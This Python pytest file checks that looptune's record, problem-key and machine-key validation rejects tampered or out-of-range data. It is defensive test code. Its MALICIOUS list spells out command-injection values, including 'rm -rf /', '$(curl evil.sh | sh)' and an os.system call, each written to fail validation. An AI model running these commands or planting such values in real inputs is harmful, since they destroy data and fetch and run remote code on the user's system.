"""Records, keys and their validation: nothing outside the schema gets in."""
from __future__ import annotations

import json
import math

import pytest
from hypothesis import given, strategies as st

from looptune.database import MachineKey, ProblemKey, Record, RecordError, better
from looptune.runtime.compiler.workload import MatmulProblem

from db_testlib import LOCAL, TRACE, make_record


@pytest.mark.parametrize("args", [dict(m=64, n=64, k=64), dict(m=1, n=2**24, k=7, batch=3, dtype="float64",
                                                               layout="tn", threads=16)])
def test_problem_key_string_matches_the_runtime(args):
    assert ProblemKey(**args).key() == MatmulProblem(**args).key()
    assert ProblemKey.from_key(MatmulProblem(**args).key()) == ProblemKey(**args)
    assert ProblemKey(**args).family == MatmulProblem(**args).family
    assert ProblemKey(**args).features() == MatmulProblem(**args).features()


@pytest.mark.parametrize("key", ["matmul:float32:nn:t1:b1:64x64", "conv:float32:nn:t1:b1:1x1x1", "",
                                 "matmul:float32:nn:t1:b1:+64x64x64", "matmul:float32:nn:t1:b1:6_4x64x64",
                                 "matmul:float16:nn:t1:b1:64x64x64", "matmul:float32:nn:t0:b1:64x64x64"])
def test_bad_problem_keys_are_rejected(key):
    with pytest.raises(RecordError):
        ProblemKey.from_key(key)


@pytest.mark.parametrize("field, value", [("m", 0), ("n", 2**24 + 1), ("k", -5), ("batch", True), ("m", 3.0),
                                          ("threads", 1025), ("dtype", "float16"), ("layout", "xx"),
                                          ("op", "system"), ("dtype", ["float32"])])
def test_problem_ranges(field, value):
    args = dict(m=8, n=8, k=8)
    args[field] = value
    with pytest.raises(RecordError):
        ProblemKey(**args)


def test_machine_key_current_describes_this_machine():
    mk = MachineKey.current("gcc 12.2.0", "1")
    assert mk.cores >= 1 and mk.compiler == "gcc 12.2.0" and mk.codegen_version == "1"
    assert MachineKey.from_dict(mk.to_dict()) == mk


def test_record_json_round_trip():
    r = make_record(100, 200, 300, batch=4, dtype="float64", layout="nt", threads=2)
    assert Record.from_json(r.to_json()) == r
    assert Record.from_dict(json.loads(r.to_json())) == r


def _tampered(path: tuple, value) -> dict:
    d = json.loads(make_record().to_json())
    target = d
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    return d


MALICIOUS = [
    # C code and shell text where loop names, ops and operands go
    (("trace", "steps", 0, "loop"), 'm; } system("rm -rf /"); {'),
    (("trace", "steps", 0, "loop"), "$(curl evil.sh | sh)"),
    (("trace", "steps", 0, "loop"), "m\n#include <stdlib.h>"),
    (("trace", "steps", 0, "op"), "asm"),
    (("trace", "steps", 0, "op"), "__import__('os').system('id')"),
    (("trace", "steps", 2, "order"), ["m.o", "n.o; exit(1)"]),
    (("trace", "steps", 5, "operand"), "C"),
    # out-of-range and wrongly typed numbers
    (("trace", "steps", 0, "factor"), 1 << 20),
    (("trace", "steps", 0, "factor"), -16),
    (("trace", "steps", 0, "factor"), "8"),
    (("trace", "steps", 4, "factor"), 1e9),
    (("problem", "m"), 0),
    (("problem", "m"), 2 ** 40),
    (("problem", "threads"), 10 ** 6),
    (("gflops_median",), float("nan")),
    (("gflops_median",), -1.0),
    (("numpy_gflops",), 1e300),
    (("gflops_spread",), 10 ** 400),
    (("budget",), -1),
    (("verified",), "yes"),
    (("timestamp",), float("inf")),
    # text fields: printable ASCII / token only
    (("policy",), "dqn; rm -rf ~"),
    (("machine", "compiler"), "gcc\x00 -fplugin=evil.so"),
    (("machine", "cpu_model"), "x" * 10_000),
    (("machine", "features"), ["avx2", "$(id)"]),
    (("version",), 2),
]


@pytest.mark.parametrize("path, value", MALICIOUS, ids=[f"{'.'.join(map(str, p))}={v!r:.30}" for p, v in MALICIOUS])
def test_malicious_or_out_of_range_fields_are_rejected(path, value):
    with pytest.raises(RecordError):
        Record.from_dict(_tampered(path, value))


def test_unknown_and_missing_fields_are_rejected():
    d = json.loads(make_record().to_json())
    with pytest.raises(RecordError, match="unexpected"):
        Record.from_dict({**d, "compile_flags": "-O3; rm -rf /"})
    del d["trace"]
    with pytest.raises(RecordError, match="missing"):
        Record.from_dict(d)
    with pytest.raises(RecordError):
        Record.from_json("{not json")
    with pytest.raises(RecordError):
        Record.from_json("[" * 100_000)


def test_records_built_in_code_are_checked_too():
    with pytest.raises(RecordError):
        Record(ProblemKey(8, 8, 8), LOCAL, "split m 8", 1.0, 0.0, 1.0, True)
    with pytest.raises(RecordError):
        make_record(gflops=math.inf)
    r = Record(ProblemKey(8, 8, 8), LOCAL, TRACE, 1, 0, 1, 1)        # ints and 0/1 are normalized
    assert r.gflops_median == 1.0 and type(r.gflops_median) is float and r.verified is True


def test_better_prefers_verified_then_faster_and_is_symmetric():
    fast_unverified = make_record(gflops=500.0, verified=False)
    slow_verified = make_record(gflops=100.0)
    faster_verified = make_record(gflops=120.0)
    assert better(fast_unverified, slow_verified) is slow_verified
    assert better(slow_verified, faster_verified) is faster_verified
    assert better(faster_verified, slow_verified) is faster_verified


@given(st.floats(0, 1e4), st.floats(0, 1e4), st.sampled_from(["a", "b", "c"]), st.sampled_from(["a", "b", "c"]))
def test_better_is_a_total_order(g1, g2, p1, p2):
    a = Record(ProblemKey(8, 8, 8), LOCAL, TRACE, g1, 0.0, 1.0, True, policy=p1, timestamp=1.0)
    b = Record(ProblemKey(8, 8, 8), LOCAL, TRACE, g2, 0.0, 1.0, True, policy=p2, timestamp=1.0)
    assert better(a, b) == better(b, a)


def test_machine_key_current_sanitizes_free_text():
    from looptune.runtime.compiler.machine import CpuInfo
    cpu = CpuInfo("x86_64", "Weird\u2122 CPU\n@ 3GHz", ("avx2", "fma"), 4, 1, 1, 1)
    assert MachineKey.current("gcc 12", "1", cpu=cpu).cpu_model == "Weird? CPU?@ 3GHz"


def test_huge_numbers_and_strings_give_short_errors():
    d = json.loads(make_record().to_json())
    d["problem"]["m"] = 10 ** 5000
    with pytest.raises(RecordError) as e:
        Record.from_dict(d)
    assert len(str(e.value)) < 200
    with pytest.raises(RecordError, match="not valid JSON"):
        Record.from_json('{"budget": ' + "9" * 5000 + "}")
    d = json.loads(make_record().to_json())
    d["machine"]["cpu_model"] = "x" * 100_000
    with pytest.raises(RecordError) as e:
        Record.from_dict(d)
    assert len(str(e.value)) < 300
